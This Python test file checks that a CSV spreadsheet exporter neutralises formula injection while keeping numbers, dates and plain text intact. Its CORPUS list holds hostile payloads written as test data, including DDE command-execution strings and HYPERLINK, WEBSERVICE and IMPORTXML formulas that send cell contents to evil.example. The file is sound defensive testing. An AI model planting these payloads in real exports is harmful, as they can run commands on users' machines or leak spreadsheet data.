"""No exported cell is a formula, whatever was typed; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from data.exchange.spreadsheet import BOM, as_csv, cell, text_cell

TRIGGERS = "=+-@\t\r＝＋－＠"
CORPUS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=WEBSERVICE(\"http://evil.example\")", "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")",
    "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "\n=1+1", "  =1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\x00=1+1", "\x01@x", "%0A-1+cmd",
    "=\u200b1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "-", "=", "+", "@", "\t", "\r", "--1", "-1e5x", "+86 138",
    "1;=1+1", "a\t=1", "a\n=1", "a\r\n@x", '"=1+1', '";=1+1', "a|=1",
)
PLAIN = ("", "王小明", "a=b", "5-3", "a@b.example", "C20260511-7", "1+1", "x - y", "'=1", "https://a/?x=1")


def read(text):
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))


@pytest.mark.parametrize("hostile", CORPUS)
def test_no_cell_is_a_formula(hostile):
    (_, row) = read("".join(as_csv(["a", "b", "c"], [["x", hostile, "y"]])))
    assert (row[0], row[2]) == ("x", "y")  # nothing breaks out of its cell
    assert not row[1].lstrip().startswith(tuple(TRIGGERS)) or row[1] == ""
    assert not row[1].startswith(tuple(TRIGGERS))
    for mark in ";\t\n|":  # nor where a spreadsheet cuts at another sign
        for part in row[1].split(mark):
            assert not part.strip().lstrip('"').startswith(("=", "@", "+", "＝")) or part.startswith('"')


@pytest.mark.parametrize("text", PLAIN)
def test_plain_texts_stay_what_they_are(text):
    assert text_cell(text) == text


@given(st.text())
def test_no_text_begins_like_a_formula(text):
    shown = text_cell(text)
    begun = shown.lstrip().lstrip("\ufeff\u200b").lstrip()
    assert not shown.startswith(("\t", "\r"))
    assert not begun.startswith(tuple("=+@＝＋－＠"))
    assert not begun.startswith("-") or float(begun) < 0 or float(begun) == 0


@pytest.mark.parametrize(("value", "wanted"), [
    (5, 5), (-5, -5), (2.5, 2.5), (-0.25, -0.25), (Decimal("-1.10"), Decimal("-1.10")), ("-5.2", "-5.2"),
    (None, ""), (float("nan"), ""), (pd.NaT, ""), (float("inf"), ""), (True, "true"), (False, "false")])
def test_values_by_their_type(value, wanted):
    assert cell(value) == wanted


def test_negative_numbers_are_written_bare_and_texts_in_quotes():
    assert "".join(as_csv(["数", "名"], [[-5, "-x"]])) == '\ufeff"数","名"\r\n-5,"\'-x"\r\n'


def test_times_are_local_and_say_their_offset():
    at = datetime(2026, 5, 11, 4, 0, 0, 7, tzinfo=UTC)
    assert cell(at, zone=ZoneInfo("Asia/Shanghai")) == "2026-05-11 12:00:00+08:00"


def test_the_names_of_the_columns_are_cells_too():
    assert read("".join(as_csv(["=1"], []))) == [["'=1"]]


def test_a_row_that_does_not_fit_is_named():
    with pytest.raises(ValueError, match="row 2 must have 1 values, got 2"):
        "".join(as_csv(["a"], [["x"], ["x", "y"]]))
